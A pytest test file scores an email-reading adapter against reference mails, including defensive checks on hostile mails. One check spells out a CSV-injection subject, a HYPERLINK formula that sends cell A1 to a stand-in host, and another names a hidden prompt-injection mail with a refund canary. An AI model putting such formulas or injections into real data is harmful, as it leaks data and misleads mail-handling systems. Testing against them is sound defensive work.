"""The reader measured on reference mails that lie beside the checkout, with the scores printed (`pytest -s`)."""

import hashlib
import importlib.util
import json
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from makegood.adapters.email.reading import html_text
from makegood.adapters.email.reading.parsed import ParsedMail, Unreadable
from makegood.adapters.email.reading.read import attempt, read, words_of
from makegood.adapters.email.reading.trimming import trim

CHECKOUT = Path(__file__).resolve().parents[5]
DATA = Path(os.environ.get("MAKEGOOD_BENCH_DATA", CHECKOUT.parent / "shared" / "data"))
OURS = frozenset({"kefu@example.cn", "support@example.com", "service@example.com"})


def need(folder: str) -> Path:
    found = DATA / folder
    if not found.is_dir():
        pytest.skip(f"the reference data {folder} are not at {DATA} (MAKEGOOD_BENCH_DATA)")
    return found


def squash(text: str) -> str:
    return re.sub(r"\s", "", text)


def score(name: str, wrong: list[str], total: int) -> None:
    print(f"\n{name}: {total - len(wrong)} of {total}", *wrong, sep="\n  ")  # noqa: T201 - the score is the point
    assert total > 0
    assert not wrong


def load(path: Path) -> ModuleType:
    spec = importlib.util.spec_from_file_location(path.stem, path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def differences(compare: ModuleType, expected: dict[str, Any], got: ParsedMail) -> Iterator[str]:
    files = [
        {
            "name": a.name,
            "type": a.type,
            "size": len(a.content),
            "sha256": hashlib.sha256(a.content).hexdigest(),
        }
        for a in got.attachments
        if not a.inline
    ]
    same: dict[str, bool] = {
        "kind": compare.same_kind(expected, got.kind),
        "subject": compare.same_subject(expected["subject"], got.subject),
        "from_name": expected["from_name"] == got.from_name,
        "from_address": compare.same_address(expected["from_address"], got.from_address),
        "to": [a.lower() for a in expected["to"]] == [box.address.lower() for box in got.to],
        "references": tuple(expected["references"]) == got.references,
        "new_text": compare.same_new_text(expected, got.new_text),
        "signature": compare.same_signature(expected, got.signature),
        "attachments": compare.same_attachments(expected, files),
        "inline_images": expected["inline_images"]
        in (None, sum(a.inline for a in got.attachments)),
    }
    same |= {
        name: expected[name] == getattr(got, name)
        for name in ("date_utc", "message_id", "in_reply_to")
    }
    for name, value in expected.get("report", {}).items():
        same[f"report.{name}"] = value == getattr(got.report, name, None)
    yield from (name for name, right in same.items() if not right)


@pytest.mark.parametrize("part", ["public", "unseen"])
def test_honest_mails_are_read_as_a_careful_reader_would(part: str) -> None:
    folder = need("mails")
    compare = load(folder / "compare.py")
    expectations = sorted((folder / part).glob("honest-*.json"))
    if not expectations:
        pytest.skip(f"there is no part {part} of the reference mails")
    wrong = []
    for path in expectations:
        got = read(path.with_suffix(".eml").read_bytes(), ours=OURS)
        found = list(differences(compare, json.loads(path.read_text("utf-8")), got))
        if found:
            wrong.append(f"{path.stem}: {', '.join(found)}")
    score(f"honest mails, {part}", wrong, len(expectations))


def hostile(name: str) -> ParsedMail | Unreadable:
    return attempt((need("mails") / "public" / f"hostile-{name}.eml").read_bytes(), ours=OURS)


HOSTILE: dict[str, Callable[[ParsedMail], bool]] = {
    "address-parser-confusion": lambda m: (
        m.from_address == "mallory@evil.test" and m.sender_ambiguous
    ),
    "attachment-path-traversal": lambda m: len(m.attachments) == 11,
    "boundary-tricks": lambda m: (
        all(f"{n} visible line" in m.new_text for n in ("first", "second", "third"))
        and [a.name for a in m.attachments] == ["notes.txt"]
    ),
    "csv-injection-subject": lambda m: (
        m.subject == '=HYPERLINK("http://canary.test/?x="&A1,"refund")'
    ),
    "display-name-spoof": lambda m: m.from_address == "mallory@evil.test" and m.sender_ambiguous,
    "html-attachments-lying-types": lambda m: (
        len(m.attachments) == 9 and "please check the documents" in m.new_text
    ),
    "null-bytes-and-broken-utf8": lambda m: (
        "end of text" in m.new_text
        and not re.search("[\x00\x1b]", m.text + m.subject)
        and len(m.attachments) == 1
    ),
    "prompt-injection-en-hidden": lambda m: (
        "how long is the warranty on the HP-8 heat pump?" in m.new_text
        and "CANARY-REFUND-77" not in m.text
    ),
    "tracking-pixels": lambda m: "any news on order 77?" in m.new_text,
    "two-content-types": lambda m: m.needs_look and m.html == "",
    "verification-code": lambda m: m.signals.machine and m.signals.carries_code,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_mails_are_read_for_what_they_are(name: str) -> None:
    got = hostile(name)
    assert isinstance(got, ParsedMail)
    assert HOSTILE[name](got)


def test_oversized_mails_are_refused_with_a_reason() -> None:
    for recipe in load(need("mails") / "make_large.py").RECIPES.values():
        assert isinstance(attempt(recipe().encode("ascii")), Unreadable)


@pytest.mark.parametrize("part", ["", "unseen"])
def test_forum_replies_are_trimmed(part: str) -> None:
    folder = need("mail-reply-trimmer")
    found = [
        p for p in sorted(folder.glob("**/emails/*.txt")) if ("unseen" in p.parts) == bool(part)
    ]
    if not found:
        pytest.skip(f"there is no part {part} of the forum replies")
    wrong = [
        path.stem
        for path in found
        if trim(path.read_text("utf-8")).strip()
        != (path.parents[1] / "trimmed" / path.name).read_text("utf-8").strip()
    ]
    score(f"forum replies, {part or 'public'}", wrong, len(found))


def reply_of(path: Path) -> str:
    """What this file's reader should find: beside the file, else the one word that all of these mails say."""
    beside = path.with_name(f"{path.stem}_reply_text")
    return beside.read_text("utf-8") if beside.exists() else "Hello"


def test_standard_replies_of_many_clients_are_cut() -> None:
    fixtures = need("mail-talon") / "tests" / "fixtures"
    paths = sorted(fixtures.glob("standard_replies/*.eml"))
    wrong = []
    for path in paths:
        lines = read(path.read_bytes()).text.split("\n")
        found = words_of(lines)
        want = squash(reply_of(path)).replace("--", "")
        if squash(found.text + found.signature) != want:
            wrong.append(f"{path.stem}: {found.text!r}")
    score("standard replies", wrong, len(paths))


def test_html_replies_of_many_clients_are_cut() -> None:
    fixtures = need("mail-talon") / "tests" / "fixtures"
    cases = dict.fromkeys(
        sorted(fixtures.glob("html_replies/*.html")), "Hi. I am fine.\n\nThanks,\nAlex"
    )
    cases |= {
        fixtures / "reply-separated-by-hr.html": "Hi there Bob",
        fixtures / "OLK_SRC_BODY_SECTION.html": "Reply",
    }
    wrong = []
    for path, want in cases.items():
        found = words_of(html_text.html_lines(path.read_text("utf-8")))
        if squash(found.text) != squash(want):
            wrong.append(f"{path.stem}: {found.text!r}")
    score("html replies", wrong, len(cases))


def test_signatures_are_found() -> None:
    paths = sorted((need("mail-talon") / "tests/fixtures/signature/emails/stripped").glob("*_body"))
    wrong = []
    for path in paths:
        name = path.name.removesuffix("_body")
        beside = path.with_name(f"{name}_signature")
        want = beside.read_text("utf-8").replace("#sig#", "") if beside.exists() else ""
        sender = path.with_name(f"{name}_sender").read_text("utf-8").strip()
        found = words_of(
            path.read_text("utf-8").replace("#sig#", "").split("\n"), sender=sender, answers=False
        )
        # Closing words count as signature in this set.
        if squash(found.sign_off + found.signature) != squash(re.sub(r"-{3,}", "", want)):
            wrong.append(f"{name}: {found.sign_off!r} {found.signature!r}")
    score("signatures", wrong, len(paths))
